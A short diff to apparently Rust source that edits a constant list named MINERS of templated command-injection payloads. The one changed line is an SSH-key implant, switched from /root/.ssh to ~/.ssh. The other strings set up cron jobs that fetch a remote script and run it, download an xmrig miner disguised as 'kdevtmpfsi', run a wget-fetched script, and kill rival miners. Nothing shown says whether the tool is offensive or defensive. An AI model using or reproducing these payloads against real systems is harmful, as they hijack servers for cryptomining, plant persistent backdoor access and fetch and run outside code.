@@ -263,7 +263,7 @@ const OPTIONS: &[&str] = &[
 
 const MINERS: &[&str] = &[
     ";(crontab -l;echo '*/§d * * * * curl -fsSL http://§h/§w.sh|sh')|crontab -",
-    ";echo 'ssh-rsa AAAAB3NzaC1yc2E§t §w'>>/root/.ssh/authorized_keys",
+    ";echo 'ssh-rsa AAAAB3NzaC1yc2E§t §w'>>~/.ssh/authorized_keys",
     "|curl -s http://§h/xmrig -o /tmp/kdevtmpfsi;chmod +x /tmp/kdevtmpfsi;/tmp/kdevtmpfsi -o stratum+tcp://§h:3333",
     ";cd /tmp||cd /var/run||cd /mnt;wget http://§h/§w.sh;chmod 777 §w.sh;sh §w.sh;rm -rf §w.sh",
     ";pkill -9 kinsing;ps aux|grep -v grep|grep xmrig|awk '{print $2}'|xargs kill -9;echo §w",
